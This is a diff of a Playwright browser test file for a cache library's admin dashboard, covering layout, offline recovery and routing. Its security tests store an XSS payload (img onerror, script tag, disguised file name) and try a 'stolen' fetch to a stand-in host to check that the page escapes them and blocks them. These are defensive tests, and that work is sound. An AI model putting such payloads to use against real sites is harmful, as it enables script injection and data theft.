@@ -9,7 +9,7 @@ import type { AxeResults } from 'axe-core'
 import type { Browser, BrowserContextOptions, Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest'
 import { buildPage } from '../../scripts/build-page.ts'
-import { type AdminOptions, adminHandler, bearerToken, nodeListener } from '../../src/admin/index.ts'
+import type { AdminOptions } from '../../src/admin/index.ts'
 import type { CacheOptions } from '../../src/index.ts'
 import { did, useSpec } from '../spec/support.ts'
 import { openPage, startBrowser } from '../support/browser.ts'
@@ -29,12 +29,23 @@ interface Canvas {
   }
 }
 
+/** What makes a page wider than its window; `[]` when it fits. */
+const STICKING_OUT = `(() => {
+  const { scrollWidth, clientWidth } = document.documentElement
+  if (scrollWidth === clientWidth) return []
+  const wide = [...document.querySelectorAll('body *')].filter((one) => one.getBoundingClientRect().right > clientWidth)
+  return [scrollWidth + ' of ' + clientWidth, ...wide.map((one) => one.tagName + ' ' + one.id + ' ' + one.className)]
+})()`
+
 /** Where there is no browser yet, its package is fetched. */
 const INSTALLING_MS = 300_000
 
 let browser: Browser
+let admin: typeof import('../../src/admin/index.ts')
 beforeAll(async () => {
   await buildPage()
+  // Only now: it holds the page as it was when it was loaded.
+  admin = await import('../../src/admin/index.ts')
   browser = await startBrowser()
   mkdirSync(pictures, { recursive: true })
 }, INSTALLING_MS)
@@ -47,13 +58,14 @@ for (const store of ['memory', 'redis'] as const) {
 
     /** A process that has been used a little, and the page on it. */
     async function open(
-      admin: Partial<AdminOptions> = {},
+      options: Partial<AdminOptions> = {},
       cache: CacheOptions = {},
       context: BrowserContextOptions = {},
     ) {
       const world = spec.cached({ clock: Date.now, ...cache })
       const { prisma } = world
-      const handler = adminHandler(prisma.$cache, { authorize: bearerToken(TOKEN), showValues: true, ...admin })
+      const { adminHandler, bearerToken, nodeListener } = admin
+      const handler = adminHandler(prisma.$cache, { authorize: bearerToken(TOKEN), showValues: true, ...options })
       const server = createServer(nodeListener(handler)).listen(0, '127.0.0.1')
       await once(server, 'listening')
       onTestFinished(() => {
@@ -169,7 +181,7 @@ for (const store of ['memory', 'redis'] as const) {
       expect(await page.locator('#main b').count()).toBe(0)
       await page.getByLabel('Keys like').first().fill('User:*')
       await page.getByRole('button', { name: 'Search' }).click()
-      await page.getByText('1 keys').waitFor()
+      await page.getByText('1 key', { exact: true }).waitFor()
       await page.getByRole('button', { name: /^User:findMany/ }).click()
       const entry = page.locator('#entry')
       await entry.getByText('3 × { id, email }').waitFor()
@@ -196,7 +208,7 @@ for (const store of ['memory', 'redis'] as const) {
         expect(await did(prisma, prisma.post.findMany({ take: 2 }))).toBe('hit')
         await page.getByLabel('Models').fill('Tag')
         await page.getByRole('button', { name: 'Invalidate', exact: true }).click()
-        await page.getByText(/\d+ tags moved, 0 entries removed\./).waitFor()
+        await page.getByText(/\d+ tags? moved, 0 entries removed\./).waitFor()
         expect(await did(prisma, prisma.tag.findUnique({ where: { name: 'red' }, cache: { key: '<b>red</b>' } }))).toBe(
           'miss',
         )
@@ -210,8 +222,9 @@ for (const store of ['memory', 'redis'] as const) {
         expect((await prisma.$cache.keys()).length).toBeGreaterThan(0)
         await page.getByRole('button', { name: 'Clear the cache' }).click()
         await sure.getByRole('button', { name: 'Clear', exact: true }).click()
-        await page.getByText(/\d+ entries removed\./).waitFor()
+        await page.getByText(/\d+ entr(y|ies) removed\./).waitFor()
         expect(await prisma.$cache.keys()).toEqual([])
+        await page.getByText('0 keys', { exact: true }).waitFor()
         await view(page, 'store')
       },
     )
@@ -245,10 +258,192 @@ for (const store of ['memory', 'redis'] as const) {
       await page.keyboard.press('Enter')
       await page.locator('#nav a[href="#/entries"][aria-current="page"]').waitFor()
       await page.context().setOffline(true)
-      await page.getByRole('button', { name: 'Live' }).click()
-      await page.getByRole('button', { name: 'Paused' }).click()
+      const again = async () => {
+        await page.getByRole('button', { name: 'Live' }).click()
+        await page.getByRole('button', { name: 'Paused' }).click()
+      }
+      await again()
       await page.getByText('The process does not answer.').waitFor()
+      await page.getByText(/^no answer since \d\d:\d\d:\d\d$/).waitFor()
+      expect(await page.locator('#main.old').count()).toBe(1)
+      await page.context().setOffline(false)
+      await again()
+      await page.getByText('The process answers again.').waitFor()
+      await page.getByText('memory · ok').waitFor()
+      expect(await page.locator('#main.old').count()).toBe(0)
       await prisma.$cache.settled()
+    })
+
+    inMemory('overview: one operation over time, under an address of its own', async () => {
+      const { page, signedIn, faults } = await open()
+      await signedIn()
+      await page.getByRole('link', { name: 'User.findMany' }).click()
+      const one = page.getByRole('region', { name: /^User\.findMany/ })
+      await one.getByRole('heading', { name: 'User.findMany over time' }).waitFor()
+      // It may lie below what can be seen.
+      expect(await page.locator(':focus').textContent()).toContain('User.findMany')
+      const latency = one.getByRole('group', { name: 'How long its reads take', exact: true })
+      await expect
+        .poll(() => latency.locator('.key').textContent())
+        .toMatch(/hit, typically [\d.]+ ms.*miss, typically/)
+      expect(await one.locator('canvas').count()).toBe(3)
+      await page.reload()
+      await one.getByRole('heading', { name: 'User.findMany over time' }).waitFor()
+      await one.getByRole('link', { name: 'Close' }).click()
+      await one.waitFor({ state: 'hidden' })
+      await page.goto(`${page.url()}/Nobody.findMany`)
+      await page.getByRole('heading', { name: 'Nobody.findMany: no reads of late' }).waitFor()
+      expect(faults).toEqual([])
+    })
+
+    inMemory('overview: what cannot wait stands above all else', async () => {
+      let ahead = 0
+      const { page, signedIn, prisma } = await open(
+        {},
+        { clock: () => Date.now() + ahead, alerts: { minSamples: 3, lookUpMs: 0.0001, hitRate: false } },
+      )
+      for (let i = 0; i < 5; i += 1) await prisma.tag.count({ where: { name: `t${i}` } })
+      ahead = 30_000
+      await prisma.tag.count()
+      expect(prisma.$cache.stats().alerts).toHaveLength(1)
+      await signedIn()
+      await page
+        .getByRole('alert', { name: 'Alerts' })
+        .getByText(/^look-up: .+, threshold/)
+        .waitFor()
+      await view(page, 'store')
+      await page.getByRole('row', { name: /alert\s+look-up raised/ }).waitFor()
+    })
+
+    inMemory('says so when several processes answer in turn', async () => {
+      const { page, signedIn } = await open()
+      let asked = 0
+      // A balancer in front: every other answer is of another process.
+      await page.route('**/stats', async (route) => {
+        const response = await route.fetch()
+        const body = (await response.json()) as { process: { pid: number } }
+        body.process.pid += asked++ % 2
+        await route.fulfill({ response, json: body })
+      })
+      await signedIn()
+      for (let i = 0; i < 2; i += 1) {
+        expect(await page.getByText(/several processes/).count()).toBe(0)
+        const answered = page.waitForResponse('**/info')
+        await page.getByLabel('Time shown').selectOption(i === 0 ? '300' : '3600')
+        await answered
+      }
+      await page.getByText('several processes answer in turn: ask each by its own address').waitFor()
+    })
+
+    inMemory('an address that somebody made up breaks nothing, and what is skipped to is where one is', async () => {
+      const { page, signedIn, faults, url } = await open()
+      await signedIn()
+      for (const hash of ['#/constructor', '#/__proto__', '#/overview/%E0%A4%A', '#nothing']) {
+        await page.goto(`${url}${hash}`)
+        await page.reload()
+        await ready(page)
+        await page.getByRole('rowheader', { name: 'User.findMany' }).waitFor()
+      }
+      await page.goto(`${url}#/entries/%E0%A4%A`)
+      await page.reload()
+      await ready(page)
+      await page.getByText('Choose a key to look at its entry.').waitFor()
+      await page.keyboard.press('Tab')
+      await page.keyboard.press('Enter')
+      expect(await page.locator(':focus').getAttribute('id')).toBe('main')
+      expect(await page.locator('#nav a[aria-current="page"]').textContent()).toBe('Entries')
+      expect(faults).toEqual([])
+      // No token at all, and one that no header can hold.
+      for (const token of ['%E0%A4%A', encodeURIComponent('naïve ☃')]) {
+        await page.goto(`${url}#token=${token}`)
+        await page.getByRole('dialog', { name: 'Sign in' }).getByText('This token is not the one.').waitFor()
+        expect(page.url()).not.toContain('token')
+      }
+      // In a tab that has the page already.
+      await page.goto(`${url}#token=${TOKEN}`)
+      await page.getByRole('rowheader', { name: 'User.findMany' }).waitFor()
+      await page.getByRole('dialog').waitFor({ state: 'hidden' })
+      expect(page.url()).not.toContain('token')
+    })
+
+    inMemory('fits a telephone: keys can be told apart, and what is chosen is gone to', async () => {
+      const { page, signedIn } = await open({}, {}, { viewport: { width: 390, height: 844 } })
+      await signedIn()
+      for (const name of VIEWS) {
+        await view(page, name)
+        expect(await page.evaluate(STICKING_OUT), name).toEqual([])
+        for (const cell of await page.locator('tbody td.key-cell').all()) {
+          expect((await cell.boundingBox())?.width, name).toBeGreaterThan(150)
+        }
+        await page.screenshot({ path: join(pictures, `dashboard-${name}-narrow.png`), fullPage: true })
+      }
+      await view(page, 'overview')
+      await page
+        .getByRole('button', { name: /^User:findMany/ })
+        .first()
+        .click()
+      await page.locator('#entry pre').waitFor()
+      expect(await page.locator(':focus').textContent()).toBe('Entry')
+      const top = (await page.locator(':focus').boundingBox())?.y ?? Number.NaN
+      expect(top).toBeGreaterThan(0)
+      expect(top).toBeLessThan(844)
+    })
+
+    it('shows what attackers have stored as what it is: text', async () => {
+      const { page, signedIn, prisma, faults, foreign } = await open()
+      const evil = `"'><img src=x onerror="globalThis.pwned=1"><script>pwned=1</script>\u202egnp.exe`
+      for (let i = 0; i < 2; i += 1) {
+        await prisma.tag.findMany({ where: { name: evil }, cache: { key: evil, tags: [evil] } })
+        await prisma.$cache.settled()
+        await prisma.tag.upsert({ where: { name: evil }, create: { name: evil, color: evil }, update: { color: 'x' } })
+      }
+      await prisma.tag.findMany({ where: { name: evil }, cache: { key: evil, tags: [evil] } })
+      await prisma.$cache.set(evil, { [evil]: evil }, { tags: [evil] })
+      await prisma.$cache.invalidate({ tags: [evil] })
+      await prisma.$cache.set(evil, { [evil]: evil }, { tags: [evil] })
+      await prisma.$cache.settled()
+      const asked: string[] = []
+      page.on('request', (request) => asked.push(request.url(), request.headers()['referer'] ?? ''))
+      await signedIn()
+      for (const name of VIEWS) {
+        await view(page, name)
+        if (name === 'entries') {
+          for (const kind of [/^Tag:findMany:@/, /^data:/]) {
+            await page.getByRole('button', { name: kind }).click()
+            await page.locator('#entry dd', { hasText: 'onerror' }).first().waitFor()
+          }
+          expect(await page.locator('#entry pre').textContent()).toContain('<script>')
+        }
+        expect(await page.locator('main img, main script, main iframe, main [onerror]').count(), name).toBe(0)
+      }
+      expect(await page.evaluate('globalThis.pwned')).toBeUndefined()
+      // The token goes into no address, and nothing to anybody else.
+      expect(asked.filter((url) => url.includes(TOKEN))).toEqual([])
+      expect({ faults, foreign }).toEqual({ faults: [], foreign: [] })
+    })
+
+    inMemory('its policy holds where a page would have a hole', async () => {
+      const { page, signedIn, url } = await open()
+      await signedIn()
+      const tried = (script: string) =>
+        page.evaluate(`(() => { try { ${script}; return 'done' } catch (e) { return e.name } })()`)
+      expect(await tried(`document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`)).toBe('TypeError')
+      expect(await tried(`document.createElement('script').text = 'pwned = 1'`)).toBe('TypeError')
+      await tried(
+        `const a = document.createElement('a'); a.setAttribute('onclick', 'pwned = 1'); document.body.append(a); a.click()`,
+      )
+      expect(await page.evaluate('globalThis.pwned')).toBeUndefined()
+      const sent = await page.evaluate(`fetch('https://example.test/?stolen').then(() => 'sent', () => 'refused')`)
+      expect(sent).toBe('refused')
+      // In nobody's frame. A page of somebody else's, from a server of its own.
+      const evil = createServer((_, response) => {
+        response.writeHead(200, { 'content-type': 'text/html' }).end(`<iframe src="${url}"></iframe>`)
+      }).listen(0, '127.0.0.1')
+      onTestFinished(() => void evil.close().closeAllConnections())
+      await once(evil, 'listening')
+      const other = await page.context().newPage()
+      await other.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`)
+      expect(other.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
     })
 
     it.each(store === 'memory' ? (['dark', 'light'] as const) : (['dark'] as const))(
